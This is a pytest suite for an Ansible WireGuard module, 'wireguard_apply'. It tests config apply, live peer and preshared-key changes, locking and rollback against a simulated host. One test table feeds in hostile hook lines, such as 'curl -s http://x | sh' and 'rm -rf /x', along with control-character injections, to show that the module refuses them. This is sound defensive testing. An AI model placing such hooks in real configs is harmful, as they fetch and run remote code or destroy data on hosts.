# Copyright: (c) 2026, netfleet engineers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""wireguard_apply against a simulated host (ip / wg / wg-quick / systemctl behaviour)."""
from __future__ import annotations

import errno
import ipaddress
import json
import os
import stat

import pytest

from ansible.module_utils import basic

from ansible_collections.netfleet.wireguard.plugins.module_utils import _wgconf as w
from ansible_collections.netfleet.wireguard.plugins.module_utils._wgkey import encode_key
from ansible_collections.netfleet.wireguard.plugins.modules import wireguard_apply

from module_runner import run_main
from wgkeys import private_key, public_key

PRIV = private_key(1)
PUB = public_key(PRIV)
K1 = public_key(private_key(0x11))
K2 = public_key(private_key(0x22))
K3 = public_key(private_key(0x33))

BASE = f"""[Interface]
Address = 10.0.0.1/24
ListenPort = 51820

# a
[Peer]
PublicKey = {K1}
AllowedIPs = 10.0.0.2/32, 192.168.10.0/24
"""
PEER_B = f"""
# b
[Peer]
PublicKey = {K2}
AllowedIPs = 10.0.0.3/32, 192.168.20.0/24
Endpoint = 198.51.100.3:51820
"""


class FakeSystem:
    """Minimal model of a host running wg-quick@wg0 under systemd."""

    def __init__(self, conf_path):
        self.conf_path = conf_path
        self.running = None        # parsed config of the running interface
        self.routes = set()        # non-kernel routes on wg0 (table main)
        self.enabled = False
        self.starts = 0
        self.syncs = 0
        self.addconfs = 0
        self.removes = 0
        self.port_sets = 0       # wireguard-go re-opens its socket each time: a live apply never does it
        self.commands = []
        self.stdin = []

    # wg-quick up semantics, simplified
    def _up(self):
        cfg = w.parse(open(self.conf_path).read())
        if any("false" == hook.strip() for hook in cfg.interface.get("PostUp", [])):
            return 1, "", "[#] false\nwg-quick: PostUp hook failed"
        if cfg.interface.get("MTU", ["1420"])[-1] == "99999":
            return 1, "", "RTNETLINK answers: Invalid argument"
        self.running = cfg
        self.starts += 1
        self.routes = set()
        for prefix in w.route_prefixes(cfg):
            if not self._covered(prefix):
                self.routes.add(prefix)
        return 0, "", ""

    def _set(self, data, replace):
        """wg syncconf (replace: peers the text lacks go, the listen port is always set) or wg addconf:
        a named peer gets its AllowedIPs replaced and only the fields the text names; a preshared
        key or keepalive the text does not name stays (zeros and "off" clear them)."""
        text = w.parse(data)
        named = [{line.split(" = ", 1)[0] for line in block.splitlines() if " = " in line}
                 for block in data.split("[Peer]")[1:]]
        running = self.running.peer_map()
        peers = [] if replace else list(self.running.peers)
        for peer, fields in zip(text.peers, named):
            old = running.get(peer.public_key)
            if old is not None:
                for field, attr in (("PresharedKey", "preshared_key"), ("PersistentKeepalive", "persistent_keepalive"),
                                    ("Endpoint", "endpoint")):
                    if field not in fields:
                        setattr(peer, attr, getattr(old, attr))
            peers = [p for p in peers if p.public_key != peer.public_key] + [peer]
        self.running.peers = peers
        if replace or "ListenPort" in text.interface:
            self.port_sets += 1
        self.syncs += replace
        self.addconfs += not replace

    def _kernel(self):
        if not self.running:
            return set()
        return {str(ipaddress.ip_interface(a).network) for a in self.running.interface.get("Address", [])}

    def _covered(self, prefix):
        net = ipaddress.ip_network(prefix)
        return any(net.version == ipaddress.ip_network(r).version and net.subnet_of(ipaddress.ip_network(r))
                   for r in self.routes | self._kernel())

    def run_command(self, args, data=None, binary_data=False, **kwargs):
        args = [a.rsplit("/", 1)[-1] if i == 0 else a for i, a in enumerate(args)]
        self.commands.append(args)
        if data is not None:
            self.stdin.append(data)
        cmd = args[0]
        if cmd == "wg" and args[1] == "pubkey":
            return 0, public_key(data.strip()) + "\n", ""
        if cmd == "ip" and args[1:3] == ["-o", "link"]:
            if self.running is None:
                return 1, "", 'Device "wg0" does not exist.'
            return 0, "7: wg0: <POINTOPOINT,NOARP,UP,LOWER_UP> mtu 1420 qdisc fq_codel state UNKNOWN\n", ""
        if cmd == "ip" and args[1] == "-o" and args[3] == "route":
            fam = 6 if args[2] == "-6" else 4
            lines = ["%s proto kernel scope link src 10.0.0.1" % r for r in self._kernel()
                     if ipaddress.ip_network(r).version == fam]
            lines += ["%s scope link" % r.replace("/32", "") for r in sorted(self.routes)
                      if ipaddress.ip_network(r).version == fam]
            return 0, "\n".join(lines), ""
        if cmd == "ip" and "match" in args:
            return 0, ("x\n" if self._covered(args[-1]) else ""), ""
        if cmd == "ip" and args[2] == "route" and args[3] in ("add", "del"):
            if args[3] == "add":
                self.routes.add(args[4])
            else:
                self.routes.discard(args[4])
            return 0, "", ""
        if cmd == "ip" and args[1:3] == ["link", "delete"]:
            self.running = None
            return 0, "", ""
        if cmd == "wg" and args[1] == "show":
            if self.running is None:
                return 1, "", "Unable to access interface: No such device"
            cfg = self.running
            lines = ["%s\t%s\t%s\toff" % (cfg.private_key, public_key(cfg.private_key),
                                          cfg.interface.get("ListenPort", ["0"])[-1])]
            for peer in cfg.peers:
                lines.append("%s\t%s\t%s\t%s\t0\t0\t0\t%s" % (
                    peer.public_key, peer.preshared_key or "(none)", peer.endpoint or "(none)",
                    ",".join(peer.allowed_ips) or "(none)", peer.persistent_keepalive or "off"))
            return 0, "\n".join(lines) + "\n", ""
        if cmd == "wg" and args[1] in ("syncconf", "addconf"):
            self._set(data, replace=args[1] == "syncconf")
            return 0, "", ""
        if cmd == "wg" and args[1] == "set":
            gone = {args[i + 1] for i in range(3, len(args) - 2, 3) if args[i] == "peer" and args[i + 2] == "remove"}
            assert gone and len(args) == 3 + 3 * len(gone), args
            self.running.peers = [p for p in self.running.peers if p.public_key not in gone]
            self.removes += 1
            return 0, "", ""
        if cmd == "systemctl":
            if args[1] == "is-enabled":
                return (0, "enabled\n", "") if self.enabled else (1, "disabled\n", "")
            if args[1] == "enable":
                self.enabled = True
                return 0, "", ""
            if args[1] == "stop":
                self.running = None
                self.routes = set()
                return 0, "", ""
            if args[1] == "restart":
                self.running = None
                return self._up()
        if cmd == "wg-quick" and args[1] == "down":
            self.running = None
            return 0, "", ""
        if cmd == "journalctl":
            return 0, "[#] false\nwg-quick@wg0: PostUp hook failed\n", ""
        raise AssertionError("unexpected command %r" % args)


@pytest.fixture
def env(tmp_path, monkeypatch):
    key = tmp_path / "wg0.key"
    key.write_text(PRIV + "\n")
    conf = tmp_path / "wg0.conf"
    system = FakeSystem(str(conf))
    monkeypatch.setattr(basic.AnsibleModule, "run_command", lambda self, *a, **k: system.run_command(*a, **k))
    monkeypatch.setattr(basic.AnsibleModule, "get_bin_path", lambda self, name, *a, **k: "/usr/bin/" + name)
    return system, str(conf), str(key)


def expect_for(content):
    """What the role passes as ``expect``: the hooks and peers the plan put into the content."""
    try:
        cfg = w.parse(content)
    except ValueError:
        return {}
    return dict(post_up=cfg.interface.get("PostUp", []), post_down=cfg.interface.get("PostDown", []),
                peers=[peer.public_key for peer in cfg.peers])


def apply(env, monkeypatch, capsys, content, check=False, diff=False, **extra):
    system, conf, key = env
    extra.setdefault("expect", expect_for(content))
    extra.setdefault("lock_path", conf + ".lock")
    extra.setdefault("interface", "wg0")
    args = dict(content=content, path=conf, private_key_path=key, service_manager="systemd",
                _ansible_check_mode=check, _ansible_diff=diff, **extra)
    result, out = run_main(monkeypatch, capsys, wireguard_apply.main, args)
    assert PRIV not in out, "private key leaked into module output"
    return result


def test_first_apply_starts_and_writes_full_file(env, monkeypatch, capsys):
    system, conf, dummy = env
    r = apply(env, monkeypatch, capsys, BASE)
    assert r["changed"] and r["action"] == "started"
    assert r["public_key"] == PUB
    text = open(conf).read()
    assert "PrivateKey = " + PRIV in text
    assert stat.S_IMODE(__import__("os").stat(conf).st_mode) == 0o600
    assert system.enabled and system.starts == 1
    assert system.routes == {"192.168.10.0/24"}  # 10.0.0.2/32 is covered by the connected /24
    assert r["peers"]["added"] == [K1]


def test_second_apply_is_idempotent(env, monkeypatch, capsys):
    system = env[0]
    apply(env, monkeypatch, capsys, BASE)
    n = len(system.commands)
    r = apply(env, monkeypatch, capsys, BASE)
    assert not r["changed"] and r["action"] == "none"
    mutating = [c for c in system.commands[n:] if c[0] in ("systemctl", "wg-quick") and c[1] != "is-enabled"
                or c[:2] in (["wg", "syncconf"], ["wg", "addconf"], ["wg", "set"])
                or ("route" in c and ("add" in c or "del" in c))]
    assert mutating == []


def test_adding_and_removing_peers_is_live_with_routes(env, monkeypatch, capsys):
    system = env[0]
    apply(env, monkeypatch, capsys, BASE)
    r = apply(env, monkeypatch, capsys, BASE + PEER_B, diff=True)
    assert r["action"] == "live" and r["changed"]
    assert system.starts == 1 and system.addconfs == 1 and system.syncs == 0 and system.port_sets == 0
    # only the new peer was sent: peer a and the interface were not touched
    assert K2 in system.stdin[-1] and K1 not in system.stdin[-1] and "ListenPort" not in system.stdin[-1]
    assert r["peers"] == {"added": [K2], "removed": [], "updated": []}
    assert r["routes"] == {"added": ["192.168.20.0/24"], "removed": []}
    assert "192.168.20.0/24" in system.routes
    # the private key went to wg on stdin only, never in argv
    assert any(PRIV in data for data in system.stdin)
    assert not any(PRIV in arg for c in system.commands for arg in c)
    assert "PrivateKey = <redacted>" in r["diff"]["after"] and PRIV not in json.dumps(r["diff"])
    # and back: remove peer a
    r = apply(env, monkeypatch, capsys, BASE.split("# a", 1)[0] + PEER_B)
    assert r["action"] == "live" and r["peers"]["removed"] == [K1]
    assert r["routes"]["removed"] == ["192.168.10.0/24"]
    assert system.routes == {"192.168.20.0/24"} and system.starts == 1
    assert system.commands[-4:].count(["wg", "set", "wg0", "peer", K1, "remove"]) == 1
    assert system.addconfs == 1 and system.port_sets == 0, "peer b is unchanged: nothing is re-sent"


def test_a_prefix_moving_to_a_new_key_is_never_without_a_peer(env, monkeypatch, capsys):
    """A peer replaced by a new key with the same AllowedIPs (a re-keyed device): the new peer is
    added before the old one is removed, so the prefix always has a peer."""
    system = env[0]
    apply(env, monkeypatch, capsys, BASE + PEER_B)
    r = apply(env, monkeypatch, capsys, BASE.replace(K1, K3) + PEER_B)
    assert r["action"] == "live" and r["peers"] == {"added": [K3], "removed": [K1], "updated": []}
    live = [c[:2] for c in system.commands if c[:2] in (["wg", "addconf"], ["wg", "set"])]
    assert live[-2:] == [["wg", "addconf"], ["wg", "set"]]
    assert K3 in system.stdin[-1] and K2 not in system.stdin[-1]
    assert {p.public_key: p.allowed_ips for p in system.running.peers}[K3] == ("10.0.0.2/32", "192.168.10.0/24")
    assert system.starts == 1 and system.port_sets == 0


def test_a_keepalive_taken_out_of_the_file_is_taken_off_the_running_peer(env, monkeypatch, capsys):
    """wg keeps a running keepalive the text does not name: without 'off' the peer would stay
    different from the file and every run would fail its check and roll back."""
    system = env[0]
    with_keepalive = BASE + PEER_B + "PersistentKeepalive = 25\n"
    apply(env, monkeypatch, capsys, with_keepalive)
    assert system.running.peer_map()[K2].persistent_keepalive == 25
    r = apply(env, monkeypatch, capsys, BASE + PEER_B)
    assert r["action"] == "live" and r["peers"]["updated"] == [K2]
    assert system.running.peer_map()[K2].persistent_keepalive is None
    assert apply(env, monkeypatch, capsys, BASE + PEER_B)["action"] == "none"


def test_an_endpoint_name_changed_in_the_file_is_sent_live(env, monkeypatch, capsys):
    """The running state shows a resolved address, so only the file tells that the name changed."""
    system = env[0]
    apply(env, monkeypatch, capsys, BASE + PEER_B.replace("198.51.100.3", "b.example.net"))
    system.running.peer_map()[K2].endpoint = "198.51.100.3:51820"   # what wg resolved
    r = apply(env, monkeypatch, capsys, BASE + PEER_B.replace("198.51.100.3", "b2.example.net"))
    assert r["action"] == "live" and r["peers"]["updated"] == [K2]
    assert "Endpoint = b2.example.net:51820" in system.stdin[-1] and K1 not in system.stdin[-1]


def test_check_mode_changes_nothing(env, monkeypatch, capsys):
    system, conf, dummy = env
    apply(env, monkeypatch, capsys, BASE)
    before = open(conf).read()
    r = apply(env, monkeypatch, capsys, BASE + PEER_B, check=True, diff=True)
    assert r["changed"] and r["action"] == "live"
    assert open(conf).read() == before and system.syncs == system.addconfs == system.removes == 0
    assert "diff" in r and K2 in r["diff"]["after"]


def test_interface_change_restarts(env, monkeypatch, capsys):
    system = env[0]
    apply(env, monkeypatch, capsys, BASE)
    r = apply(env, monkeypatch, capsys, BASE.replace("ListenPort = 51820", "ListenPort = 51820\nMTU = 1380"))
    assert r["action"] == "restarted" and r["reasons"] == ["MTU changed"]
    assert system.starts == 2


def test_default_route_change_restarts(env, monkeypatch, capsys):
    apply(env, monkeypatch, capsys, BASE)
    r = apply(env, monkeypatch, capsys, BASE.replace("10.0.0.2/32, 192.168.10.0/24", "0.0.0.0/0"))
    assert r["action"] == "restarted" and any("default route" in m for m in r["reasons"])


def test_drift_repaired_live(env, monkeypatch, capsys):
    system = env[0]
    apply(env, monkeypatch, capsys, BASE + PEER_B)
    system.running.peers = [p for p in system.running.peers if p.public_key != K2]  # wg set wg0 peer K2 remove
    system.routes.discard("192.168.20.0/24")
    r = apply(env, monkeypatch, capsys, BASE + PEER_B)
    assert r["changed"] and r["action"] == "live"
    assert r["peers"]["added"] == [K2] and r["routes"]["added"] == ["192.168.20.0/24"]
    assert K2 in {p.public_key for p in system.running.peers} and system.starts == 1


def test_failing_restart_rolls_back(env, monkeypatch, capsys):
    system, conf, dummy = env
    apply(env, monkeypatch, capsys, BASE + PEER_B)
    good = open(conf).read()
    r = apply(env, monkeypatch, capsys, (BASE + PEER_B).replace("ListenPort = 51820", "ListenPort = 51820\nPostUp = false"))
    assert r["failed"] and r["action"] == "rolled_back"
    assert "PostUp hook failed" in r["msg"] and "restored" in r["msg"]
    assert open(conf).read() == good
    assert system.running is not None and {p.public_key for p in system.running.peers} == {K1, K2}
    # and the next run with the good content is a no-op again
    assert apply(env, monkeypatch, capsys, BASE + PEER_B)["changed"] is False


def test_failing_first_start_leaves_nothing(env, monkeypatch, capsys):
    system, conf, dummy = env
    r = apply(env, monkeypatch, capsys, BASE.replace("ListenPort = 51820", "MTU = 99999"))
    assert r["failed"] and r["action"] == "rolled_back"
    assert system.running is None
    assert not __import__("os").path.exists(conf)


@pytest.mark.parametrize("content,msg", [
    (BASE.replace("[Interface]", "[Interface]\nPrivateKey = " + PRIV), "must not contain PrivateKey"),
    (BASE + "PresharedKey = " + PRIV + "\n", "must not contain PrivateKey or PresharedKey"),
    (BASE + "Bogus = 1\n", "not a valid wg-quick configuration"),
    (BASE.replace("ListenPort = 51820", "SaveConfig = true"), "SaveConfig"),
])
def test_bad_content_rejected_before_touching_anything(env, monkeypatch, capsys, content, msg):
    system, conf, dummy = env
    r = apply(env, monkeypatch, capsys, content)
    assert r["failed"] and msg in r["msg"]
    assert system.commands == [] and not __import__("os").path.exists(conf)


def test_missing_or_corrupt_key(env, monkeypatch, capsys, tmp_path):
    system, conf, key = env
    open(key, "w").write("garbage\n")
    r = apply(env, monkeypatch, capsys, BASE)
    assert r["failed"] and "does not hold a valid private key" in r["msg"] and "garbage" not in r["msg"]
    __import__("os").unlink(key)
    r = apply(env, monkeypatch, capsys, BASE)
    assert r["failed"] and "wireguard_keypair" in r["msg"]


# ----------------------------------------------------------------------------- preshared keys

PSK_A = encode_key(b"\x0a" * 32)
PSK_B = encode_key(b"\x0b" * 32)


@pytest.fixture
def psk_dir(tmp_path):
    directory = tmp_path / "wg0.psk.d"
    directory.mkdir(mode=0o700)
    return directory


def set_psk(directory, name, key):
    path = directory / (name + ".psk")
    path.write_text(key + "\n")
    path.chmod(0o600)


def apply_psk(env, monkeypatch, capsys, psk_dir, content, peers, **kw):
    r = apply(env, monkeypatch, capsys, content, preshared_key_dir=str(psk_dir), preshared_key_peers=peers, **kw)
    out = json.dumps(r)
    for key in (PSK_A, PSK_B):
        assert key not in out, "a preshared key leaked into the module output"
    return r


def running_psk(system, key):
    return system.running.peer_map()[key].preshared_key


def test_preshared_key_inserted_on_the_host_and_carried_live(env, monkeypatch, capsys, psk_dir):
    system, conf, dummy = env
    set_psk(psk_dir, "a", PSK_A)
    r = apply_psk(env, monkeypatch, capsys, psk_dir, BASE, {K1: "a"}, diff=True)
    assert r["action"] == "started" and r["preshared_keys"] == ["a"]
    text = open(conf).read()
    assert "PresharedKey = " + PSK_A in text
    assert running_psk(system, K1) == PSK_A
    assert "PresharedKey = <redacted>" in r["diff"]["after"]
    # adding peer b with a PSK: live, the PSK goes to wg on stdin only
    set_psk(psk_dir, "b", PSK_B)
    r = apply_psk(env, monkeypatch, capsys, psk_dir, BASE + PEER_B, {K1: "a", K2: "b"}, diff=True)
    assert r["action"] == "live" and r["peers"]["added"] == [K2] and system.starts == 1
    assert running_psk(system, K2) == PSK_B
    assert any(PSK_B in data for data in system.stdin)
    assert not any(PSK_B in arg or PSK_A in arg for c in system.commands for arg in c)
    assert r["diff"]["after"].count("PresharedKey = <redacted>") == 2
    # and the same again changes nothing
    r = apply_psk(env, monkeypatch, capsys, psk_dir, BASE + PEER_B, {K1: "a", K2: "b"})
    assert r["changed"] is False and r["action"] == "none"


def test_preshared_key_change_is_applied_live(env, monkeypatch, capsys, psk_dir):
    system = env[0]
    set_psk(psk_dir, "a", PSK_A)
    apply_psk(env, monkeypatch, capsys, psk_dir, BASE, {K1: "a"})
    set_psk(psk_dir, "a", PSK_B)
    r = apply_psk(env, monkeypatch, capsys, psk_dir, BASE, {K1: "a"}, diff=True)
    assert r["changed"] and r["action"] == "live" and r["peers"]["updated"] == [K1]
    assert running_psk(system, K1) == PSK_B and system.starts == 1 and system.addconfs == 1


def test_peer_that_stops_needing_a_preshared_key_loses_it_live(env, monkeypatch, capsys, psk_dir):
    system, conf, dummy = env
    set_psk(psk_dir, "a", PSK_A)
    apply_psk(env, monkeypatch, capsys, psk_dir, BASE, {K1: "a"})
    r = apply_psk(env, monkeypatch, capsys, psk_dir, BASE, {})
    assert r["action"] == "live" and r["peers"]["updated"] == [K1] and r["preshared_keys"] == []
    assert running_psk(system, K1) is None and system.starts == 1
    assert "PresharedKey" not in open(conf).read()
    # the all-zero key is what made wg drop it
    assert "PresharedKey = " + "A" * 43 + "=" in system.stdin[-1]


def test_preshared_key_set_by_hand_is_repaired_live(env, monkeypatch, capsys, psk_dir):
    system = env[0]
    set_psk(psk_dir, "a", PSK_A)
    apply_psk(env, monkeypatch, capsys, psk_dir, BASE, {K1: "a"})
    system.running.peer_map()[K1].preshared_key = PSK_B   # wg set wg0 peer K1 preshared-key ...
    r = apply_psk(env, monkeypatch, capsys, psk_dir, BASE, {K1: "a"})
    assert r["action"] == "live" and running_psk(system, K1) == PSK_A


def test_check_mode_with_a_missing_preshared_key_previews_with_a_placeholder(env, monkeypatch, capsys, psk_dir):
    system, conf, dummy = env
    apply(env, monkeypatch, capsys, BASE)
    warnings = []
    monkeypatch.setattr(basic.AnsibleModule, "warn", lambda self, msg, *a, **k: warnings.append(msg))
    r = apply_psk(env, monkeypatch, capsys, psk_dir, BASE, {K1: "a"}, check=True, diff=True)
    assert r["changed"] and r["action"] == "live"
    assert any("preshared key(s) for a do not exist yet" in msg for msg in warnings), warnings
    assert "PresharedKey = <redacted>" in r["diff"]["after"]
    assert "PresharedKey" not in open(conf).read() and system.syncs == system.addconfs == 0


@pytest.mark.parametrize("content", ["missing", "garbage"])
def test_missing_or_invalid_preshared_key_fails_before_touching_anything(env, monkeypatch, capsys, psk_dir, content):
    system, conf, dummy = env
    if content == "garbage":
        set_psk(psk_dir, "a", "garbage-secret")
    r = apply_psk(env, monkeypatch, capsys, psk_dir, BASE, {K1: "a"})
    assert r["failed"] and "preshared key for peer a" in r["msg"] and "wireguard_preshared_keys" in r["msg"]
    assert "garbage" not in r["msg"]
    assert system.commands == [] and not __import__("os").path.exists(conf)


@pytest.mark.parametrize("peers,msg", [
    ({K3: "c"}, "not a [Peer] of content"),
    ({K1: "../a"}, "cannot be used as a preshared key file name"),
])
def test_bad_preshared_key_peers(env, monkeypatch, capsys, psk_dir, peers, msg):
    r = apply_psk(env, monkeypatch, capsys, psk_dir, BASE, peers)
    assert r["failed"] and msg in r["msg"]


def test_rollback_restores_the_preshared_key(env, monkeypatch, capsys, psk_dir):
    system, conf, dummy = env
    set_psk(psk_dir, "a", PSK_A)
    apply_psk(env, monkeypatch, capsys, psk_dir, BASE, {K1: "a"})
    good = open(conf).read()
    set_psk(psk_dir, "a", PSK_B)
    r = apply_psk(env, monkeypatch, capsys, psk_dir, BASE.replace("ListenPort = 51820", "ListenPort = 51820\nPostUp = false"),
                  {K1: "a"})
    assert r["failed"] and r["action"] == "rolled_back"
    assert open(conf).read() == good and running_psk(system, K1) == PSK_A


def test_check_mode_before_the_first_run_previews_with_a_stand_in_key(env, monkeypatch, capsys, tmp_path):
    system, conf, dummy = env
    missing = str(tmp_path / "not-yet.key")
    env = (system, conf, missing)
    r = apply(env, monkeypatch, capsys, BASE, check=True, diff=True)
    assert r["changed"] and r["action"] == "started" and r["public_key"] is None
    assert "does not exist yet" in r["preview"]
    assert "PrivateKey = <redacted>" in r["diff"]["after"] and K1 in r["diff"]["after"]
    assert wireguard_apply.PREVIEW_PRIVATE_KEY not in json.dumps(r)
    assert not __import__("os").path.exists(conf) and system.starts == 0
    # outside check mode a missing key is still an error
    failed = apply(env, monkeypatch, capsys, BASE)
    assert failed["failed"] and "cannot read the private key" in failed["msg"]


# ----------------------------------------------------------------------------- expect: defence at the writer

HOOKS_UP = ["iptables -w -A FORWARD -i %i -j ACCEPT", "iptables -w -t nat -A POSTROUTING -o eth0 -j MASQUERADE"]
HOOKS_DOWN = ["iptables -w -D FORWARD -i %i -j ACCEPT"]
HOOKED = BASE.replace("ListenPort = 51820", "ListenPort = 51820\n" + "".join(
    "PostUp = %s\n" % line for line in HOOKS_UP) + "".join("PostDown = %s\n" % line for line in HOOKS_DOWN))
EXPECT = dict(post_up=HOOKS_UP, post_down=HOOKS_DOWN, peers=[K1])


def test_expected_hooks_and_peers_are_accepted(env, monkeypatch, capsys):
    r = apply(env, monkeypatch, capsys, HOOKED, expect=EXPECT)
    assert r["action"] == "started" and not r.get("failed")


def _first_hook(text):
    return text.replace("PostUp = " + HOOKS_UP[0], "PostUp = " + HOOKS_UP[0] + "\nPostUp = curl -s http://x | sh", 1)


HOSTILE = {
    "extra PostUp": (_first_hook(HOOKED), "PostUp: 3 line(s) where 2 are expected"),
    "PreUp": (HOOKED.replace("[Interface]", "[Interface]\nPreUp = touch /tmp/owned"), "PreUp: 1 line(s) where 0"),
    "PreDown": (HOOKED.replace("[Interface]", "[Interface]\nPreDown = rm -rf /x"), "PreDown: 1 line(s)"),
    "PostDown missing": (HOOKED.replace("PostDown = " + HOOKS_DOWN[0] + "\n", ""), "PostDown: 0 line(s) where 1"),
    "hooks reordered": (HOOKED.replace(HOOKS_UP[0], "@@").replace(HOOKS_UP[1], HOOKS_UP[0]).replace("@@", HOOKS_UP[1]),
                        "first difference at PostUp #1"),
    "hook with a suffix": (HOOKED.replace(HOOKS_DOWN[0], HOOKS_DOWN[0] + "; id"), "first difference at PostDown #1"),
    "lower-case key": (HOOKED.replace("[Interface]", "[Interface]\npostup = id"), "PostUp: 3 line(s)"),
    "Table": (HOOKED.replace("[Interface]", "[Interface]\nTable = off"), "Table would move"),
    "Table number": (HOOKED.replace("[Interface]", "[Interface]\nTable = 1234"), "Table would move"),
    "SaveConfig": (HOOKED.replace("[Interface]", "[Interface]\nSaveConfig = true"), "SaveConfig would let"),
    "FwMark": (HOOKED.replace("[Interface]", "[Interface]\nFwMark = 0xca6c"), "FwMark would change"),
    "extra peer": (HOOKED + PEER_B, "unexpected [Peer] PublicKey " + K2),
    "missing peer": (HOOKED.split("# a", 1)[0], "expected [Peer] PublicKey %s missing" % K1),
    "injected section": (HOOKED.replace("Address = 10.0.0.1/24", "Address = 10.0.0.1/24\n[Interface]\nPostUp = id"),
                         "a second [Interface] section"),
    "form feed": (HOOKED.replace("PostUp = " + HOOKS_UP[0], "PostUp = " + HOOKS_UP[0] + "\x0cid"), "U+000C"),
    "carriage return": (HOOKED.replace("Address = 10.0.0.1/24", "Address = 10.0.0.1/24\rPostUp = id"), "U+000D"),
    "line separator": (HOOKED.replace("Address = 10.0.0.1/24", "Address = 10.0.0.1/24\u2028PostUp = id"), "U+2028"),
    "NUL": (HOOKED.replace("eth0", "eth0\x00"), "U+0000"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_content_beyond_expect_is_refused_before_anything_changes(env, monkeypatch, capsys, name):
    system, conf, dummy = env
    apply(env, monkeypatch, capsys, HOOKED, expect=EXPECT)
    good, running, commands = open(conf, "rb").read(), system.running, len(system.commands)
    content, msg = HOSTILE[name]
    r = apply(env, monkeypatch, capsys, content, expect=EXPECT)
    assert r["failed"] and msg in r["msg"], r["msg"]
    assert r["action"] == "none" and not r["changed"]
    assert system.commands[commands:] == [] and system.running is running
    assert open(conf, "rb").read() == good
    assert "curl" not in r["msg"] and "/tmp/owned" not in r["msg"]   # the message names positions, not text


def test_without_expect_every_hook_and_peer_is_refused(env, monkeypatch, capsys):
    system, conf, dummy = env
    r = apply(env, monkeypatch, capsys, HOOKED, expect={})
    assert r["failed"] and "PostUp: 2 line(s) where 0" in r["msg"] and "unexpected [Peer]" in r["msg"]
    assert system.commands == [] and not os.path.exists(conf)


def test_tab_is_allowed(env, monkeypatch, capsys):
    r = apply(env, monkeypatch, capsys, HOOKED.replace("Address = ", "Address =\t"), expect=EXPECT)
    assert r["action"] == "started"


def test_expect_peers_must_be_keys(env, monkeypatch, capsys):
    r = apply(env, monkeypatch, capsys, BASE, expect=dict(peers=[K1, "not-a-key"]))
    assert r["failed"] and "expect.peers: entry #2" in r["msg"]


# ----------------------------------------------------------------------------- lock

def test_a_second_run_waits_for_the_lock_and_fails_clearly(env, monkeypatch, capsys):
    from ansible_collections.netfleet.wireguard.plugins.module_utils._secretfile import lock_file
    system, conf, dummy = env
    fd = lock_file(conf + ".lock", 0)
    try:
        r = apply(env, monkeypatch, capsys, BASE, lock_timeout=0)
    finally:
        os.close(fd)
    assert r["failed"] and "another run is changing this interface" in r["msg"] and "nothing was changed" in r["msg"]
    assert system.commands == [] and not os.path.exists(conf)
    # released: the next run proceeds, and its own lock is released when it ends
    assert apply(env, monkeypatch, capsys, BASE, lock_timeout=0)["action"] == "started"
    assert apply(env, monkeypatch, capsys, BASE, lock_timeout=0)["action"] == "none"


def test_check_mode_takes_no_lock(env, monkeypatch, capsys):
    from ansible_collections.netfleet.wireguard.plugins.module_utils._secretfile import lock_file
    fd = lock_file(env[1] + ".lock", 0)
    try:
        r = apply(env, monkeypatch, capsys, BASE, check=True, lock_timeout=0)
    finally:
        os.close(fd)
    assert r["changed"] and not r.get("failed")


# ----------------------------------------------------------------------------- faults

MTU = (BASE + PEER_B).replace("ListenPort = 51820", "ListenPort = 51820\nMTU = 1380")


def _fail_once(monkeypatch, target, name, exc):
    real = getattr(target, name)
    calls = []

    def fake(*args, **kwargs):
        calls.append(args)
        if len(calls) == 1:
            raise exc
        return real(*args, **kwargs)
    monkeypatch.setattr(target, name, fake)
    return calls


def test_new_file_that_cannot_be_written_fails_before_down(env, monkeypatch, capsys):
    system, conf, dummy = env
    apply(env, monkeypatch, capsys, BASE + PEER_B)
    good, commands = open(conf, "rb").read(), len(system.commands)
    _fail_once(monkeypatch, wireguard_apply, "stage", OSError(errno.ENOSPC, "No space left on device"))
    r = apply(env, monkeypatch, capsys, MTU)
    assert r["failed"] and "No space left on device" in r["msg"] and "nothing was changed" in r["msg"]
    assert r["action"] == "none"
    assert not any(c[0] in ("systemctl", "wg-quick") and c[1] in ("stop", "down", "restart")
                   for c in system.commands[commands:])
    assert open(conf, "rb").read() == good and system.starts == 1


@pytest.mark.parametrize("where,exc", [
    ("install", OSError(errno.EIO, "Input/output error")),
    ("up", OSError(errno.ENOENT, "No such file or directory")),
    ("up", ValueError("unexpected")),
    ("up", KeyboardInterrupt()),
])
def test_any_failure_after_down_restores_the_previous_tunnel(env, monkeypatch, capsys, where, exc):
    system, conf, dummy = env
    apply(env, monkeypatch, capsys, BASE + PEER_B)
    good = open(conf, "rb").read()
    target = wireguard_apply if where == "install" else wireguard_apply.Host
    calls = _fail_once(monkeypatch, target, where, exc)
    r = apply(env, monkeypatch, capsys, MTU)
    assert calls, "the fault was not reached"
    assert r["failed"] and r["action"] == "rolled_back" and "rolled back" in r["msg"], r["msg"]
    assert open(conf, "rb").read() == good
    assert system.running is not None and "MTU" not in system.running.interface
    assert {p.public_key for p in system.running.peers} == {K1, K2}
    assert not [n for n in os.listdir(os.path.dirname(conf)) if n.startswith(".wg0.conf")], "staged file left behind"


def test_failure_during_a_live_change_syncs_the_old_peers_back(env, monkeypatch, capsys):
    system, conf, dummy = env
    apply(env, monkeypatch, capsys, BASE)
    good = open(conf, "rb").read()
    _fail_once(monkeypatch, wireguard_apply.Host, "route", OSError(errno.EPERM, "Operation not permitted"))
    r = apply(env, monkeypatch, capsys, BASE + PEER_B)
    assert r["failed"] and r["action"] == "rolled_back"
    assert open(conf, "rb").read() == good
    assert {p.public_key for p in system.running.peers} == {K1} and system.starts == 1


def test_a_file_only_change_that_fails_leaves_the_interface_alone(env, monkeypatch, capsys):
    system, conf, dummy = env
    apply(env, monkeypatch, capsys, BASE)
    good, commands = open(conf, "rb").read(), len(system.commands)
    _fail_once(monkeypatch, wireguard_apply, "install", OSError(errno.EIO, "Input/output error"))
    r = apply(env, monkeypatch, capsys, BASE.replace("# a", "# a, renamed"))
    assert r["failed"] and r["action"] == "rolled_back" and open(conf, "rb").read() == good
    assert not any(c[0] in ("systemctl", "wg-quick") and c[1] in ("stop", "down", "restart")
                   or c[:2] in (["wg", "syncconf"], ["wg", "addconf"], ["wg", "set"])
                   for c in system.commands[commands:])
    assert system.starts == 1


def test_a_rollback_that_fails_too_says_so(env, monkeypatch, capsys):
    system, conf, dummy = env
    apply(env, monkeypatch, capsys, BASE + PEER_B)

    def broken_up(self):
        raise OSError(errno.EIO, "boom")
    monkeypatch.setattr(wireguard_apply.Host, "up", broken_up)
